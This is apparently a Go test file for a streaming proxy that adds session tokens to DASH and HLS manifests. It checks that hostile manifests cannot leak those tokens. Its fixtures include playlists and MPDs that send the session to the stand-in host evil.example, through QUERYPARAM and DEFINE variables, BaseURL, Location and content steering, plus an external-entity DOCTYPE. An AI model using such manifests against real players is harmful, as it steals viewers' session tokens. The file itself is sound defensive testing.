		{"DOCTYPE without '>' inside", "application/dash+xml", `<!DOCTYPE MPD [<!ENTITY e SYSTEM "x">]>` + mpdDoc(periodOf(""))[len(`<?xml version="1.0" encoding="UTF-8"?>`)+1:], safe},
		{"UTF-16 declared", "application/dash+xml", `<?xml version="1.0" encoding="UTF-16"?>` + mpdDoc(periodOf(""))[len(`<?xml version="1.0" encoding="UTF-8"?>`):], refused},
		{"an MPD sniffed by Go under a .m3u8 name", "", mpdDoc(periodOf("")), bare}, // text/xml: the name says HLS, the body is not
		{"UrlQueryInfo", "application/dash+xml", mpdDoc(`<Period><AdaptationSet><SupplementalProperty schemeIdUri="urn:mpeg:dash:urlparam:2014"><up:UrlQueryInfo xmlns:up="urn:mpeg:dash:schema:urlparam:2014" queryTemplate="$querypart$" useMPDUrlQuery="true"/></SupplementalProperty><BaseURL>` + evil + `/</BaseURL><Representation id="r" bandwidth="1"><SegmentTemplate media="s$Number$.m4s"/></Representation></AdaptationSet></Period>`), refused},
		{"ExtUrlQueryInfo", "application/dash+xml", mpdDoc(`<EssentialProperty schemeIdUri="urn:mpeg:dash:urlparam:2016"><up:ExtUrlQueryInfo xmlns:up="urn:mpeg:dash:schema:urlparam:2016" includeInRequests="segment" useMPDUrlQuery="true"/></EssentialProperty>` + periodOf("")), refused},
		{"ContentSteering", "application/dash+xml", mpdDoc(`<ContentSteering defaultServiceLocation="a">` + evil + `/steer</ContentSteering>` + periodOf("")), refused},
		{"cut in a tag", "application/dash+xml", mpdDoc(periodOf(""))[:200], refused},
		{"cut between elements", "application/dash+xml", strings.TrimSuffix(mpdDoc(periodOf("")), "</MPD>\n"), refused},
		{"too deep", "application/dash+xml", mpdDoc(strings.Repeat("<X>", 200) + strings.Repeat("</X>", 200) + periodOf("")), refused},
		{"dash+xml, but HLS", "application/dash+xml", "#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\nseg0.ts\n#EXTINF:4,\n" + evil + "/seg1.ts\n", bare},
		{"mpegurl, but an MPD", "application/vnd.apple.mpegurl", mpdDoc(periodOf("")), bare},
		{"an MPD sniffed by Go", "", mpdDoc(periodOf("")), rewritten},
		{"an MPD under a .m3u8 name", "application/dash+xml", mpdDoc(periodOf("")), rewritten},
		{"video/mp4, but an MPD", "video/mp4", mpdDoc(periodOf("")), bare},
		{"a BOM and comments", "application/dash+xml", "\xef\xbb\xbf<!-- x --><?pi x?>" + mpdDoc(periodOf(""))[len(`<?xml version="1.0" encoding="UTF-8"?>`)+1:], rewritten},
	}
	for i, c := range cases {
		name := fmt.Sprintf("c%d.mpd", i)
		if strings.Contains(c.name, ".m3u8") {
			name = fmt.Sprintf("c%d.m3u8", i)
		}
		o.set(name, staticMPD(c.ct, c.body))
		resp, body, err := fetchMPD(t, f, name)
		if err != nil {
			if c.want == refused || c.want == safe {
				continue // cut off: not delivered as whole
			}
			t.Errorf("%s: %v", c.name, err)
			continue
		}
		status := resp.StatusCode
		problems := dashLeaks(c.body, body, own)
		if status == http.StatusOK {
			for _, p := range problems {
				t.Errorf("%s: %s\n%s", c.name, p, body)
			}
		}
		switch {
		case c.want == rewritten && (status != http.StatusOK || !strings.Contains(body, "avh=")):
			t.Errorf("%s: %d, want the MPD with the session:\n%s", c.name, status, body)
		case c.want == bare && (status != http.StatusOK || body != c.body):
			t.Errorf("%s: %d, want the body as the origin sent it:\n%s", c.name, status, body)
		case c.want == refused && status != http.StatusBadGateway:
			t.Errorf("%s: %d, want 502:\n%s", c.name, status, body)
		case c.want == safe && status != http.StatusOK && status != http.StatusBadGateway:
			t.Errorf("%s: %d", c.name, status)
		}
		if status == http.StatusOK && resp.ContentLength >= 0 && resp.ContentLength != int64(len(body)) {
			t.Errorf("%s: Content-Length %d for %d bytes", c.name, resp.ContentLength, len(body))
		}
	}
}

// What the origin answers besides a plain 200: gzip, HEAD, Range, 206,
// 304, a slow body, a body cut by the origin, a huge one.
func TestAttackMPDAnswersHold(t *testing.T) {
	f, o := mpdFixture(t)
	doc := mpdDoc(`<BaseURL>https://evil.example/</BaseURL>` + periodOf(""))
	ok := mpdDoc(periodOf(""))

	t.Run("gzip", func(t *testing.T) {
		var zb bytes.Buffer
		zw := gzip.NewWriter(&zb)
		io.WriteString(zw, doc)
		zw.Close()
		o.set("gz.mpd", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/dash+xml")
			w.Header().Set("Content-Encoding", "gzip")
			w.Write(zb.Bytes())
		})
		resp, body, err := fetchMPD(t, f, "gz.mpd", "Accept-Encoding", "gzip")
		if err != nil || resp.StatusCode != http.StatusOK {
			t.Fatalf("%v %v", resp, err)
		}
		if resp.Header.Get("Content-Encoding") != "" || body != doc {
			t.Fatalf("Content-Encoding %q, body %q: want the decoded MPD, unrewritten under a foreign base", resp.Header.Get("Content-Encoding"), body)
		}
	})
	t.Run("gzip, gzip", func(t *testing.T) {
		var zb bytes.Buffer
		zw := gzip.NewWriter(&zb)
		io.WriteString(zw, ok)
		zw.Close()
		o.set("gz2.mpd", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/dash+xml")
			w.Header().Set("Content-Encoding", "gzip, identity")
			w.Write(zb.Bytes())
		})
		resp, body, err := fetchMPD(t, f, "gz2.mpd")
		if err != nil {
			t.Fatal(err)
		}
		if resp.StatusCode == http.StatusOK && strings.Contains(body, "avh=") {
			t.Fatalf("an encoding it cannot read was rewritten")
		}
	})
	t.Run("HEAD", func(t *testing.T) {
		o.set("head.mpd", staticMPD("application/dash+xml", ok))
		sess := f.sessionToken(f.issue("v1"))
		res := f.do(f.player("p"), http.MethodHead, "/vod/v1/dash/head.mpd?avh="+sess)
		if res.status != http.StatusOK || res.body != "" {
			t.Fatalf("HEAD: %d %q", res.status, res.body)
		}
		if cl := res.header.Get("Content-Length"); cl != "" && cl != fmt.Sprint(len(ok)+len("?avh="+sess)*2) {
			t.Fatalf("HEAD: Content-Length %s, which is not the rewritten length", cl)
		}
	})
	t.Run("Range is not passed on", func(t *testing.T) {
		o.set("range.mpd", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/dash+xml")
			http.ServeContent(w, r, "x.mpd", time.Time{}, strings.NewReader(ok))
		})
		resp, body, err := fetchMPD(t, f, "range.mpd", "Range", "bytes=0-99", "If-Range", `"x"`)
		if err != nil || resp.StatusCode != http.StatusOK || !strings.Contains(body, "avh=") || !strings.HasSuffix(body, "</MPD>\n") {
			t.Fatalf("%v %v %q: want the whole rewritten MPD", resp.StatusCode, err, body)
		}
	})
	t.Run("206 and 304 pass as they are", func(t *testing.T) {
		o.set("206.mpd", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/dash+xml")
			w.Header().Set("Content-Range", fmt.Sprintf("bytes 0-99/%d", len(ok)))
			w.WriteHeader(http.StatusPartialContent)
			io.WriteString(w, ok[:100])
		})
		resp, body, err := fetchMPD(t, f, "206.mpd")
		if err != nil || resp.StatusCode != http.StatusPartialContent || strings.Contains(body, "avh=") {
			t.Fatalf("206: %v %v %q", resp.StatusCode, err, body)
		}
		o.set("304.mpd", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Etag", `"e"`)
			w.WriteHeader(http.StatusNotModified)
		})
		resp, body, err = fetchMPD(t, f, "304.mpd", "If-None-Match", `"e"`)
		if err != nil || resp.StatusCode != http.StatusNotModified || body != "" {
			t.Fatalf("304: %v %v %q", resp.StatusCode, err, body)
		}
	})
	t.Run("slow, a byte at a time", func(t *testing.T) {
		o.set("slow.mpd", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/dash+xml")
			for i := 0; i < len(ok); i++ {
				w.Write([]byte{ok[i]})
				if i%97 == 0 {
					http.NewResponseController(w).Flush()
				}
			}
		})
		resp, body, err := fetchMPD(t, f, "slow.mpd")
		if err != nil || resp.StatusCode != http.StatusOK || len(dashLeaks(ok, body, f.srv.URL)) > 0 || !strings.Contains(body, "avh=") {
			t.Fatalf("%v %v %q", resp.StatusCode, err, body)
		}
	})
	t.Run("cut by the origin after the hold limit", func(t *testing.T) {
		// More than the 256 KiB held, then the origin's connection dies:
		// the answer streams and must end in an error, never as whole.
		pad := strings.Repeat("<!--"+strings.Repeat("x", 1000)+"-->\n", 400)
		big := mpdDoc(pad + periodOf(""))
		o.set("cut.mpd", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/dash+xml")
			io.WriteString(w, big[:len(big)-40])
			panic(http.ErrAbortHandler) // httputil.ReverseProxy on a broken upstream
		})
		resp, body, err := fetchMPD(t, f, "cut.mpd")
		if err == nil {
			t.Fatalf("a cut MPD reached the client as whole: %d, %d bytes, ends %q", resp.StatusCode, len(body), body[max(0, len(body)-60):])
		}
		o.set("cut2.mpd", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/dash+xml")
			io.WriteString(w, big[:len(big)-40]) // and returns, as a handler that lost its upstream may
		})
		resp, body, err = fetchMPD(t, f, "cut2.mpd")
		if err == nil && resp.StatusCode == http.StatusOK {
			t.Fatalf("a cut MPD reached the client as whole: %d bytes, ends %q", len(body), body[max(0, len(body)-60):])
		}
	})
	t.Run("huge", func(t *testing.T) {
		o.set("huge.mpd", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/dash+xml")
			io.WriteString(w, `<MPD `+dashNS+`>`)
			seg := []byte(`<Period><AdaptationSet><Representation id="r" bandwidth="1"><SegmentList><SegmentURL media="a"/><SegmentURL media="b"/></SegmentList></Representation></AdaptationSet></Period>`)
			for n := 0; n < 20<<20; n += len(seg) {
				if _, err := w.Write(seg); err != nil {
					return // the bound broke: stop, as a proxy would
				}
			}
			io.WriteString(w, `</MPD>`)
		})
		resp, body, err := fetchMPD(t, f, "huge.mpd")
		if err == nil && resp.StatusCode == http.StatusOK {
			t.Fatalf("a 20 MiB MPD came whole: %d bytes", len(body))
		}
	})
}

// The session token of the URL never reaches the origin, whatever the
// MPD's answer.
func TestAttackMPDOriginSeesNoSessionHolds(t *testing.T) {
	f, o := mpdFixture(t)
	o.set("x.mpd", staticMPD("application/dash+xml", mpdDoc(periodOf(""))))
	fetchMPD(t, f, "x.mpd", "Range", "bytes=0-10", "Accept-Encoding", "gzip")
	o.mu.Lock()
	defer o.mu.Unlock()
	for _, line := range o.seen {
		if strings.Contains(line, "avh") || strings.Contains(line, "token") {
			t.Fatalf("the origin saw %s", line)
		}
		if !strings.Contains(line, `range=""`) || !strings.Contains(line, `ae=""`) {
			t.Fatalf("the origin was asked for part or a coding of an MPD to rewrite: %s", line)
		}
	}
}

// ---------------------------------------------------------------------------
// HLS: what a playlist can do with the session of its own URL

// HLS variables (RFC 8216bis 4.4.2.3, protocol version 8+): a URI may
// hold {$name}, substituted by the player from EXT-X-DEFINE NAME/VALUE,
// IMPORT, or QUERYPARAM (a query parameter of the playlist's own URL). So
// "{$h}/v.m3u8" reads as relative to the rewriter, which gives it the
// session, and as https://evil.example/v.m3u8 to the player once h is
// substituted; and a cookie-less player's playlist URLs carry avh, which
// QUERYPARAM copies into a URI of any host. hls.js, vendored in player/,
// does both (e2e: TestAttackHLSJSSendsSessionToAThirdPartyFinding). A
// steering server may likewise clone every variant, query and all, onto
// another host (EXT-X-CONTENT-STEERING with PATHWAY-CLONES, by the spec;
// not reproduced in hls.js here). The DASH rewriter refuses its
// equivalents ($RepresentationID$ checks, UrlQueryInfo, ContentSteering).
// Such a playlist must fail (or its URIs with variables get nothing), not
// pass with the session in URIs that may lead elsewhere.
func TestAttackPlaylistCopiesSessionElsewhereFinding(t *testing.T) {
	f, o := mpdFixture(t) // the same origin serves playlists under dash/ here
	for _, c := range []struct{ name, body string }{
		{"queryparam", "#EXTM3U\n#EXT-X-VERSION:11\n#EXT-X-DEFINE:QUERYPARAM=\"avh\"\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\nhttps://evil.example/s.ts?k={$avh}\n#EXTINF:4,\nseg1.ts\n#EXT-X-ENDLIST\n"},
		{"define", "#EXTM3U\n#EXT-X-VERSION:8\n#EXT-X-DEFINE:NAME=\"h\",VALUE=\"https://evil.example\"\n#EXT-X-STREAM-INF:BANDWIDTH=1000\n{$h}/v.m3u8\n"},
		{"import", "#EXTM3U\n#EXT-X-VERSION:8\n#EXT-X-DEFINE:IMPORT=\"h\"\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\n{$h}/s0.ts\n#EXT-X-ENDLIST\n"},
		{"steering", "#EXTM3U\n#EXT-X-CONTENT-STEERING:SERVER-URI=\"https://evil.example/steer.json\",PATHWAY-ID=\"a\"\n#EXT-X-STREAM-INF:BANDWIDTH=1000,PATHWAY-ID=\"a\"\nv/720p.m3u8\n"},
	} {
		o.set(c.name+".m3u8", staticMPD("application/vnd.apple.mpegurl", c.body))
		resp, body, err := fetchMPD(t, f, c.name+".m3u8")
		if err != nil {
			continue // cut off
		}
		if resp.StatusCode == http.StatusOK && strings.Contains(body, "avh=") {
			t.Errorf("%s: 200 with the session in the playlist; a player sends it to evil.example:\n%s", c.name, body)
		}
	}
}

// sessionToken redeems tok at its session endpoint and returns the
// session token.
func (f *fixture) sessionToken(tok string) string {
	f.t.Helper()
	res := f.get(f.player("p"), tokenPath("v1", tok, "session"))
	m := regexp.MustCompile(`"session_token":"([^"]+)"`).FindStringSubmatch(res.body)
	if m == nil {
		f.t.Fatalf("session endpoint: %d %q", res.status, res.body)
	}
	return m[1]
}

// The referee of the MPD tests is not blind: it sees a session under a
// foreign base, in a foreign URL, under a foreign Location, and a change
// beyond the session.
func TestAttackMPDRefereeCatchesLeaks(t *testing.T) {
	own := "http://127.0.0.1:1"
	for _, c := range []struct{ in, out string }{
		{mpdDoc(`<BaseURL>https://evil.example/</BaseURL>` + periodOf("")),
			strings.Replace(mpdDoc(`<BaseURL>https://evil.example/</BaseURL>`+periodOf("")), `init.mp4"`, `init.mp4?avh=S"`, 1)},
		{mpdDoc(`<BaseURL>https://evil.example/</BaseURL>` + periodOf("")),
			strings.Replace(mpdDoc(`<BaseURL>https://evil.example/</BaseURL>`+periodOf("")), `example/<`, `example/?avh=S<`, 1)},
		{mpdDoc(`<Location>//evil.example/x.mpd</Location>` + periodOf("")),
			strings.Replace(mpdDoc(`<Location>//evil.example/x.mpd</Location>`+periodOf("")), `init.mp4"`, `init.mp4?avh=S"`, 1)},
		{mpdDoc(`<Period xml:base="https://evil.example/">` + periodOf("")[len(`<Period id="p0">`):]),
			strings.Replace(mpdDoc(`<Period xml:base="https://evil.example/">`+periodOf("")[len(`<Period id="p0">`):]), `init.mp4"`, `init.mp4?avh=S"`, 1)},
		{mpdDoc(periodOf("")), strings.Replace(mpdDoc(periodOf("")), `init.mp4"`, `init.mp5?avh=S"`, 1)},
	} {
		if len(dashLeaks(c.in, c.out, own)) == 0 {
			t.Errorf("the referee passed a leak:\n%s", c.out)
		}
	}
	if p := dashLeaks(mpdDoc(periodOf("")), strings.Replace(mpdDoc(periodOf("")), `init.mp4"`, `init.mp4?avh=S"`, 1), own); len(p) > 0 {
		t.Errorf("the referee refused a plain rewrite: %q", p)
	}
}
